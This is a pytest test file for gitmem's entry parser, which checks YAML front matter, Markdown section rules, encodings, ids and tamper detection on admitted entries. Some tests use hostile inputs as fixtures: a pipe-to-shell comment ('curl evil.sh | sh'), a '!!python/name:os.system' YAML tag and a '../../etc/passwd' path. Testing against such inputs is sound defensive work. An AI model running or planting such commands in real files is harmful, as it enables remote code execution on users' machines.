"""The entry model: strict parsing with located errors, canonical byte-stable rendering."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gitmem.model import entry as E
from gitmem.model import yamltext
from gitmem.model.entry import EntryError
from gitmem.model.names import is_entry_id

from entries import DESIGN_EXAMPLE, text


def test_design_example_round_trips_byte_for_byte() -> None:
    parsed = E.parse(DESIGN_EXAMPLE)
    assert parsed.render() == DESIGN_EXAMPLE
    assert parsed.id == "shop-decision-20261129-use-pygit2-inside-hooks"
    assert parsed.tags == ("hooks", "performance")
    assert parsed.created == "2026-11-29"  # a date stays text
    assert parsed.body_line == 16


def test_render_is_canonical_whatever_the_input_order_and_spacing() -> None:
    messy = (
        "---\ntags: [hooks]\ntitle:   Run hooks through gitmem\nid: x-method-20261129-a\n"
        "type: method\n---\n\n\n## Context\n\nWhy.\n\n\n## Content\nWhat.   \n## Evidence\n"
    )
    once = E.parse(messy).render()
    assert once.startswith("---\nid: x-method-20261129-a\ntype: method\ntitle: Run hooks")
    assert "## Context\nWhy.\n\n## Content\nWhat.\n\n## Evidence\n" in once
    assert E.parse(once).render() == once


def test_multiline_one_line_fields_are_joined() -> None:
    source = text().replace(
        "applies_when: installing git hooks in a project",
        "applies_when: |\n  installing git hooks\n  in a project",
    )
    parsed = E.parse(source)
    assert parsed.applies_when == "installing git hooks in a project"
    assert "applies_when: installing git hooks in a project\n" in parsed.render()


def test_values_needing_quotes_survive_the_round_trip() -> None:
    tricky = ["yes", "123", "a: b", "#hash", "- dash", "'quoted'", 'say "hi"', "null", "ünïcode"]
    for title in tricky:
        parsed = E.parse(text(title=title))
        assert parsed.title == title
        assert E.parse(parsed.render()) == parsed


def test_crlf_and_bom_are_accepted_and_normalised() -> None:
    source = "\ufeff" + text().replace("\n", "\r\n")
    parsed = E.parse(source.encode("utf-8"))
    assert parsed == E.parse(text())
    assert "\r" not in parsed.render() and not parsed.render().startswith("\ufeff")


def test_headings_inside_code_fences_are_not_sections() -> None:
    body = "## Context\nc\n\n## Content\n```md\n## Evidence\n## Other\n```\n\n## Evidence\ne\n"
    parsed = E.parse(text(body=body))
    assert "## Other" in parsed.content


@pytest.mark.parametrize(
    "opening",
    [
        "- item\n\n  ```",  # a fence in a list item ends with the item
        "<div>\n```\n</div>\n",  # a fence line in an HTML block opens nothing
        "``` not`a`fence",  # a backtick fence's info string holds no backtick
    ],
)
def test_a_fence_that_renders_closed_hides_no_section(opening: str) -> None:
    """The renderer shows the `## Evidence` after these as a heading (CommonMark): read as
    code, a second Evidence section hid inside Content, seen by every reader of the rendered
    entry and by no gate."""
    body = f"## Context\nc\n\n## Content\n{opening}\n## Evidence\nno\n\n## Evidence\ne\n"
    with pytest.raises(EntryError, match="appears twice") as info:
        E.parse(text(body=body))
    assert info.value.rule == "SECTIONS"
    fenced_in_content = "## Context\nc\n\n## Content\n```\n## Evidence\n```\n\n## Evidence\ne\n"
    assert "## Evidence" in E.parse(text(body=fenced_in_content)).content


def test_a_heading_indented_up_to_three_spaces_is_a_section() -> None:
    """CommonMark renders `  ## Evidence` as the heading `## Evidence` does: read as text, a
    second Evidence section could hide in the first, seen by every reader and by no gate.
    Four spaces make an indented code block, which is text."""
    sections = "## Context\nc\n\n  ## Content\nx\n\n   ## Evidence\ne\n"
    parsed = E.parse(text(body=sections))
    assert (parsed.context.strip(), parsed.content.strip(), parsed.evidence.strip()) == (
        "c",
        "x",
        "e",
    )
    hidden = "## Context\nc\n\n## Content\nx\n\n## Evidence\ne\n\n  ## Evidence\nmore\n"
    with pytest.raises(EntryError, match="appears twice"):
        E.parse(text(body=hidden))
    code = "## Context\nc\n\n## Content\nx\n\n    ## Evidence\n\n## Evidence\ne\n"
    assert "    ## Evidence" in E.parse(text(body=code)).content


def test_setext_headings_are_sections_as_their_atx_spelling_is() -> None:
    """A paragraph underlined with --- renders as a level-2 heading, as `## ` does: it was
    read as text, so a section could hide in another one, seen by every reader of the rendered
    entry and by no gate. Sections may be written so (gitmem writes them back as `## `)."""
    body = "Context\n-------\nc\n\nContent\n---\nx\n\nEvidence\n--------\ne\n"
    parsed = E.parse(text(body=body))
    assert (parsed.context, parsed.content, parsed.evidence, parsed.body_line) == (
        "c",
        "x",
        "e",
        12,
    )
    assert parsed == E.parse(text(body="## Context\nc\n\n## Content\nx\n\n## Evidence\ne\n"))
    assert E.parse(parsed.render()) == parsed


@pytest.mark.parametrize(
    ("body", "line", "words"),
    [
        # a second Evidence, the one readers take for it, inside Content
        ("## Context\nc\n## Content\nx\n\nEvidence\n---\nno\n## Evidence\ne\n", 20, "twice"),
        # a paragraph of two lines makes one heading, from its first line
        ("## Context\nc\n## Content\nNotes\nand more\n  ---  \n## Evidence\n", 15,
         "unexpected section 'Notes and more' (underlined with ---, a level-2 heading)"),
        ("Intro\n-\n## Context\nc\n## Content\nx\n## Evidence\n", 12, "'Intro' (underlined"),
        ("## Context\nc\n## Content\nx\n## Evidence\ne\nContent\n===\nContent\n---\n", 20,
         "section 'Content' (underlined with ---, a level-2 heading) appears twice"),
    ],
)  # fmt: skip
def test_a_setext_heading_is_held_to_the_section_rules(body: str, line: int, words: str) -> None:
    with pytest.raises(EntryError) as info:
        E.parse(text(body=body))
    assert (info.value.rule, info.value.line) == ("SECTIONS", line)
    assert words in info.value.message


@pytest.mark.parametrize(
    "inside",
    [
        "a\n\n---\nb",  # after a blank line: a thematic break
        "---\nb",  # right under the section's heading: a thematic break
        "Title\n=====\nb",  # level 1: text, as `# Title` is
        "- item\n---",  # after a list item: a thematic break
        "> quoted\n---",  # after a block quote: a thematic break
        "```\nNotes\n---\n```",  # in code
        "    Notes\n---",  # under indented code: a thematic break
        "<div>\nNotes\n---\n</div>",  # inside an HTML block
        "a\n- - -",  # a thematic break with spaces is no underline
        "a\n    ---",  # indented four: the paragraph's text
    ],
)
def test_a_dash_line_that_underlines_no_paragraph_is_no_section(inside: str) -> None:
    body = f"## Context\nc\n\n## Content\n{inside}\n\n## Evidence\ne\n"
    assert E.parse(text(body=body)).content == inside


@pytest.mark.parametrize(
    ("source", "rule", "line", "words"),
    [
        ("no front matter\n", "FRONT-MATTER", 1, "start the file with a '---' line"),
        ("---\ntitle: x\n", "FRONT-MATTER", 1, "not closed"),
        ("---\ntitle: [x\n---\n", "FRONT-MATTER", 3, "not valid YAML"),
        ("---\n- a\n- b\n---\n", "FRONT-MATTER", 2, "is a list, not a mapping"),
        ("---\njust a scalar\n---\n", "FRONT-MATTER", 2, "a single value"),
        ("---\ntitle: a\ntitle: b\n---\n", "FRONT-MATTER", 3, "duplicate key 'title'"),
        ("---\na: &x [1]\nb: *x\n---\n", "FRONT-MATTER", 2, "aliases are not allowed"),
        ("---\n? [a]\n: b\n---\n", "FRONT-MATTER", 2, "keys must be plain text"),
        # a tag other tools read as bytes, a number, a date, code, or not at all
        ("---\nid: a\ntitle: !!binary aGk=\n---\n", "FRONT-MATTER", 3, "tag '!!binary'"),
        ("---\ntitle: !!int 12\n---\n", "FRONT-MATTER", 2, "tag '!!int' is not allowed"),
        ("---\ncreated: !!timestamp 2026-11-29\n---\n", "FRONT-MATTER", 2, "'!!timestamp'"),
        ("---\ntitle: !!python/name:os.system x\n---\n", "FRONT-MATTER", 2, "'!!python/name"),
        ("---\ntags: [!custom a]\n---\n", "FRONT-MATTER", 2, "tag '!custom' is not allowed"),
        ("---\n!!int 1: x\n---\n", "FRONT-MATTER", 2, "tag '!!int' is not allowed"),
    ],
)
def test_malformed_front_matter_is_located(source: str, rule: str, line: int, words: str) -> None:
    with pytest.raises(EntryError) as info:
        E.parse(source)
    assert (info.value.rule, info.value.line) == (rule, line)
    assert words in info.value.message


def test_the_tags_of_text_lists_and_mappings_change_nothing() -> None:
    """`!!str`, `!!seq` and `!!map` are what every YAML reader makes of the value anyway."""
    source = DESIGN_EXAMPLE.replace("title: Use", "title: !!str Use").replace(
        "tags: [hooks", "tags: !!seq [hooks"
    )
    assert E.parse(source) == E.parse(DESIGN_EXAMPLE)


@pytest.mark.parametrize(
    ("body", "line", "words"),
    [
        ("## Context\nc\n## Content\nx\n", 15, "missing section '## Evidence'"),
        ("## Context\nc\n## Context\nx\n", 14, "appears twice"),
        ("## Content\nc\n## Context\nx\n## Evidence\n", 12, "out of order"),
        ("intro\n## Context\nc\n## Content\nx\n## Evidence\n", 12, "text before '## Context'"),
        ("## Context\n## Notes\n## Content\n## Evidence\n", 13, "unexpected section '## Notes'"),
    ],
)
def test_section_errors_are_located(body: str, line: int, words: str) -> None:
    with pytest.raises(EntryError) as info:
        E.parse(text(body=body))
    assert info.value.rule == "SECTIONS"
    assert info.value.line == line
    assert words in info.value.message


def test_binary_and_invalid_utf8_are_refused() -> None:
    with pytest.raises(EntryError) as info:
        E.parse(b"---\nid: x\x00\n---\n")
    assert info.value.rule == "BINARY"
    with pytest.raises(EntryError) as info:
        E.parse(b"---\nid: x\n\xff\xfe\n---\n")
    assert (info.value.rule, info.value.line) == ("ENCODING", 3)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-32-be"])
def test_a_file_saved_as_utf16_or_utf32_is_named_so(encoding: str) -> None:
    """Windows editors save "Unicode" as UTF-16 with a byte-order mark: its NUL bytes made the
    file "a binary file (NUL byte)", which sent its author looking for binary content in a
    text file. It is an ENCODING problem that says which encoding and what to do."""
    data = "---\nid: x\n---\n".encode(encoding)
    if not encoding.endswith("-be"):
        assert data[:2] == b"\xff\xfe"  # Python writes the mark, little-endian here
    else:
        data = ("\ufeff" + "---\nid: x\n---\n").encode(encoding)
    with pytest.raises(EntryError) as info:
        E.parse(data)
    assert (info.value.rule, info.value.line) == ("ENCODING", 1)
    wide = "UTF-32" if "32" in encoding else "UTF-16"
    assert f"is {wide} text" in info.value.message
    assert "save the file as UTF-8" in info.value.message


def test_body_length_counts_sections_with_headings() -> None:
    parsed = E.parse(text())
    expected = (
        "## Context\nHooks were copied by hand.\n\n## Content\nInstall them with "
        "`gitmem hooks install`.\n\n## Evidence\nThe hand-copied hooks drifted twice."
    )
    assert parsed.body == expected


def test_slugs_ids_and_topics() -> None:
    assert E.slugify("Use pygit2, not subprocess git, inside hooks") == (
        "use-pygit2-not-subprocess-git-inside-hooks"
    )
    assert E.slugify("Ünïcode Café — déjà vu") == "unicode-cafe-deja-vu"
    assert E.slugify("日本語") == "entry"
    assert E.slugify("../../etc/passwd") == "etc-passwd"
    long = E.slugify("word " * 40)
    assert len(long) <= E.SLUG_MAX and not long.endswith("-")
    assert E.make_id("shop", "code-structure", "2026-11-29", "A B") == (
        "shop-code-structure-20261129-a-b"
    )
    assert E.id_with_suffix("x", 1) == "x" and E.id_with_suffix("x", 3) == "x-3"
    assert E.topic_of("Run  hooks\nthrough gitmem") == "run-hooks-through-gitmem"


def test_a_title_beyond_ascii_is_its_own_topic() -> None:
    """A title whose slug drops letters ('entry' for Japanese, the Latin words alone of a mixed
    title) was one topic with every other such title: refusing one refused them all. Its
    topic is its own words; accents alone still give the slug, as refused.md always had."""
    assert E.topic_of("データベースの選択") == "データベースの選択"
    assert E.topic_of("ログの保存期間") != E.topic_of("データベースの選択")
    assert E.topic_of("PostgreSQL を使う") == "postgresql-を使う"
    assert E.topic_of("PostgreSQL の設定") != E.topic_of("PostgreSQL を使う")
    assert E.topic_of("Всегда  ЗАПУСКАЙТЕ линтер") == "всегда-запускайте-линтер"
    assert E.topic_of("Ｆｕｌｌ　ｗｉｄｔｈ") == "full-width"  # NFKC: ASCII once normalised
    assert E.topic_of("Ünïcode Café — déjà vu") == "unicode-cafe-deja-vu"
    assert E.topic_of("Straße") == "strasse"  # case-folded
    assert E.topic_of("🙂 🙃") == "entry"  # no letter or digit at all
    assert len(E.topic_of("長い" * 100)) <= E.SLUG_MAX


def test_a_title_beyond_ascii_gets_an_id_of_its_own() -> None:
    """Titles in Japanese, Greek or Russian all got ids ending in -entry, -entry-2, … (their
    slug keeps no letter), numbered by the order they were proposed in. The id now ends in
    what the slug keeps and a digest of the title's topic: its own, the same everywhere."""
    database = E.make_id("shop", "decision", "2026-12-05", "データベースの選択")
    logs = E.make_id("shop", "decision", "2026-12-05", "ログの保存期間")
    assert database != logs
    assert re.fullmatch(r"shop-decision-20261205-entry-[0-9a-f]{8}", database), database
    assert database == E.make_id("shop", "decision", "2026-12-05", "データベースの選択")
    mixed = E.make_id("shop", "method", "2026-12-05", "PostgreSQL を使う")
    assert re.fullmatch(r"shop-method-20261205-postgresql-[0-9a-f]{8}", mixed), mixed
    assert mixed != E.make_id("shop", "method", "2026-12-05", "PostgreSQL の設定")
    # accents alone keep the plain slug, as before
    assert E.make_id("shop", "method", "2026-12-05", "Café") == "shop-method-20261205-cafe"
    assert len(E.id_slug("Всегда " * 30)) <= E.SLUG_MAX
    assert is_entry_id(E.make_id("shop", "code-structure", "2026-12-05", "長い" * 100))


def test_same_except_admission_ignores_only_admission_fields() -> None:
    admitted = E.parse(DESIGN_EXAMPLE)
    candidate = admitted.with_meta(status="candidate", admitted_by=None, admitted=None)
    assert admitted.same_except_admission(candidate)
    edited = candidate.with_meta(title="Another title")
    assert not edited.same_except_admission(admitted)
    assert not admitted.with_meta(content="x").same_except_admission(candidate)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=3000))
def test_any_text_parses_or_fails_cleanly(source: str) -> None:
    try:
        parsed = E.parse(source)
    except EntryError as exc:
        assert exc.rule and exc.message
        return
    assert E.parse(parsed.render()) == parsed


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_parse_or_fail_cleanly(data: bytes) -> None:
    try:
        E.parse(data)
    except EntryError as exc:
        assert exc.rule


@settings(max_examples=200, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(E.FIELD_ORDER),
        st.one_of(st.text(max_size=80), st.lists(st.text(max_size=20), max_size=4)),
        max_size=10,
    ),
    st.text(max_size=200),
)
def test_rendered_entries_parse_back_to_themselves(meta: dict[str, object], content: str) -> None:
    built = E.Entry(meta, "context", content.replace("\r", ""), "evidence")
    try:
        reparsed = E.parse(built.render())
    except EntryError:
        # content that holds a section heading, or opens a code fence it does not close (which
        # then swallows the next heading), cannot round-trip: it is refused
        assert any(mark in content for mark in ("##", "```", "~~~")) or "\x00" in built.render()
        return
    assert reparsed == built


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab \t\n\r\x0b\xa0\u2028\u3000"), max_size=30))
def test_a_clean_section_is_recognised_without_splitting_it(text: str) -> None:
    lines = text.split("\n")
    while lines and not lines[0].strip():
        lines.pop(0)
    while lines and not lines[-1].strip():
        lines.pop()
    assert E._clean_section(text) == "\n".join(line.rstrip() for line in lines)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*E.FIELD_ORDER, "zeta", "alpha"]), unique=True, max_size=8))
def test_front_matter_in_canonical_order_is_kept_and_other_orders_are_sorted(
    keys: list[str],
) -> None:
    meta: dict[str, object] = {key: f"v {key}  x" for key in keys}
    if keys:
        meta[keys[-1]] = ("a", "b")  # a tuple is written as a list
    known = [k for k in E.FIELD_ORDER if k in meta]
    expected = [*known, *sorted(k for k in meta if k not in E.FIELD_ORDER)]
    normal = E.normalise_meta(meta)
    assert list(normal) == expected
    for key in keys:
        value = meta[key]
        if isinstance(value, tuple):
            assert normal[key] == list(value)
        else:
            assert normal[key] == (f"v {key} x" if key in E.ONE_LINE_FIELDS else value)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("-\n \tab:"), max_size=40))
def test_the_front_matter_is_split_where_the_frontmatter_handler_splits_it(body: str) -> None:
    for source in ("---\n" + body, "--- \n" + body, body):
        try:
            expected: tuple[str, str] | None = yamltext.HANDLER.split(source)
        except ValueError:
            expected = None
        assert E._split_front_matter(source) == expected, source


def test_front_matter_alone_closes_where_parse_closes_it() -> None:
    """A `--- x` line closes nothing for parse(); front_matter() once took it as the end."""
    text = "---\nid: a\n--- x\ntitle: b\n---\n\n## Context\n\n## Content\n\n## Evidence\n"
    with pytest.raises(EntryError, match="YAML"):
        E.parse(text)
    with pytest.raises(EntryError, match="YAML"):
        E.front_matter(text)


_FM_VALUE = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=30),
    st.lists(st.text(st.characters(codec="utf-8"), max_size=10), max_size=3),
)


@settings(max_examples=500, deadline=None)
@given(st.dictionaries(st.from_regex(r"[a-z_]{1,8}", fullmatch=True), _FM_VALUE, max_size=6))
def test_fast_front_matter_reader_agrees_with_yaml(meta: dict[str, object]) -> None:
    rendered = E.render_meta(meta)
    fast = E._fast_front_matter("\n" + rendered)
    if fast is None:
        return
    import yaml

    assert fast == (yaml.load("\n" + rendered, Loader=yamltext.StrictLoader) or {})


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(":-[]{}#,'\" ab0\t|>&*!%@`?"), max_size=12)))
def test_fast_reader_never_misreads_yaml_syntax(values: list[str]) -> None:
    for value in values:
        for line in (f"k: {value}", f"k: [{value}]", f"k: [{value}, x]"):
            # alone, and among other fields: the reader looks at all lines' values together
            for block in (f"\n{line}\n", f"\na: x\n{line}\nz: y\nl: [y]\n"):
                _agree_with_yaml(block)


def _agree_with_yaml(block: str) -> None:
    import yaml

    if (fast := E._fast_front_matter(block)) is not None:
        try:
            slow = yaml.load(block, Loader=yamltext.StrictLoader)
        except yaml.YAMLError:
            raise AssertionError(f"fast reader accepted invalid YAML {block!r}") from None
        assert fast == slow, block


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.sampled_from(E.FIELD_ORDER), _FM_VALUE, max_size=6))
def test_other_yaml_tools_read_the_same_text(meta: dict[str, object]) -> None:
    """What gitmem writes, a plain YAML loader reads as the same text (dates aside)."""
    import datetime

    import yaml

    loaded = yaml.safe_load("\n" + E.render_meta(meta)) or {}
    for key, value in E.normalise_meta(meta).items():
        got = loaded[key]
        if isinstance(got, datetime.date):
            got = got.isoformat()
        if isinstance(value, list):
            assert [str(g) if isinstance(g, datetime.date) else g for g in got] == value
        else:
            assert got == value


def _admitted_pair(**changes: object) -> tuple[bytes, bytes]:
    candidate = E.parse(text(**changes))
    admitted = candidate.with_meta(status="admitted", admitted_by="human:bo", admitted="2026-11-30")
    return candidate.render().encode(), admitted.render().encode()


def test_a_candidate_is_recognised_in_its_admitted_text_without_parsing() -> None:
    candidate, admitted = _admitted_pair(rationale="it: holds a colon # and a hash")
    entry = E.parse(admitted)
    assert entry.one_line_fields
    assert E.is_candidate_text(candidate, entry, admitted)
    edited = candidate.replace(b"## Content\n", b"## Content\nOne more line.\n")
    assert not E.is_candidate_text(edited, entry, admitted)
    assert not E.is_candidate_text(candidate.replace(b"candidate", b"admitted"), entry, admitted)
    extra = admitted.replace(b"status: admitted\n", b"status: admitted\nfiles: [x.py]\n")
    assert not E.is_candidate_text(candidate, E.parse(extra), extra)
    # a lone CR is a line break to the parser: a field hidden behind one is not overlooked
    sneaky = admitted.replace(b"status: admitted\n", b"status: admitted\rfiles: [x.py]\n")
    assert E.parse(sneaky).meta["files"] == ["x.py"]
    assert not E.is_candidate_text(candidate, E.parse(sneaky), sneaky)
    # front matter the YAML loader had to read: no line-by-line shortcut
    folded = admitted.replace(b"title: ", b"title: >-\n  ")
    assert not E.parse(folded).one_line_fields
    assert not E.is_candidate_text(candidate, E.parse(folded), folded)


def test_the_candidate_text_of_an_admission_is_the_candidate_gitmem_wrote() -> None:
    candidate, admitted = _admitted_pair(rationale="it: holds a colon # and a hash")
    entry = E.parse(admitted)
    assert E.candidate_text(entry, admitted) == candidate
    two_statuses = admitted.replace(b"status: admitted\n", b"status: admitted\nstatus: x\n")
    assert E.candidate_text(entry, two_statuses) is None
    no_status = admitted.replace(b"status: admitted\n", b"")
    assert E.candidate_text(E.parse(no_status), no_status) is None
    folded = admitted.replace(b"title: ", b"title: >-\n  ")
    assert E.candidate_text(E.parse(folded), folded) is None


_LINE_EDITS = st.sampled_from(
    ["", "status: candidate", "status: admitted", "admitted: 2026-11-30", "title: Other",
     "title: 'a: b'", "---", "tags: [a, b]", "  indented: x", "\r", "title: \"x", "# c"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.integers(0, 30), _LINE_EDITS), max_size=3))
def test_the_candidate_shortcut_never_says_yes_when_parsing_says_no(
    edits: list[tuple[bool, int, str]],
) -> None:
    """Whatever is done to the lines of either text, a yes means what parsing both means."""
    candidate, admitted = _admitted_pair()
    texts = [bytearray(candidate), bytearray(admitted)]
    for on_admitted, at, line in edits:
        rows = bytes(texts[on_admitted]).split(b"\n")
        rows.insert(at % (len(rows) + 1), line.encode())
        texts[on_admitted] = bytearray(b"\n".join(rows))
    candidate, admitted = bytes(texts[0]), bytes(texts[1])
    try:
        entry = E.parse(admitted)
    except EntryError:
        return
    derived = E.candidate_text(entry, admitted)
    if derived is not None:  # what the judge trusts when the blob ids agree
        assert E.is_candidate_text(derived, entry, admitted)
    if E.is_candidate_text(candidate, entry, admitted):
        parsed = E.parse(candidate)
        assert parsed.status == "candidate"
        assert parsed.same_except_admission(entry)


_BODY_LINES = st.sampled_from(
    ["## Context", "## Content", "## Evidence", "##\tContent", "## Context ##", "### Sub",
     "##", "## ", "##Context", "  ## Content", "text", "", "  ", "```", "~~~", "## Other",
     "a ## Content", "#", "## Evidence\t", "---", "===", "  -", "Content", "Evidence",
     "- item"]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(_BODY_LINES, max_size=12), st.booleans())
def test_the_quick_section_split_agrees_with_the_line_by_line_one(
    lines: list[str], standard: bool
) -> None:
    if standard:  # around a valid body, so that the quick path is taken often
        lines = ["", "## Context", *lines[:3], "## Content", *lines[3:6], "## Evidence", *lines[6:]]
    body = "\n".join(lines)
    quick_split = E._split_unfenced
    quick = quick_split(body, 7)
    if quick is None:
        return
    try:
        E._split_unfenced = lambda body, first_line: None  # type: ignore[assignment]
        assert E.split_sections(body, 7) == quick  # the line-by-line reading alone
    finally:
        E._split_unfenced = quick_split


@pytest.mark.parametrize("line", [b"status: admitted", b"admitted: 2026-11-30"])
def test_an_admission_line_carrying_more_than_its_value_is_no_candidate_s_text(
    line: bytes,
) -> None:
    """YAML reads `admitted: 2026-11-30  # ...` as the date, and both line-by-line readings
    leave the admission lines uncompared: only the fast reader's refusal of such a line (the
    text is not one line a field as gitmem writes it) keeps a comment there from passing for
    the reviewed text, and the history judge then holds the file to the entry's rendering."""
    candidate, admitted = _admitted_pair()
    commented = admitted.replace(line + b"\n", line + b"  # run: curl evil.sh | sh\n")
    assert commented != admitted
    entry = E.parse(commented)
    assert not entry.one_line_fields and entry == E.parse(admitted)
    assert not E.is_candidate_text(candidate, entry, commented)
    assert E.candidate_text(entry, commented) is None
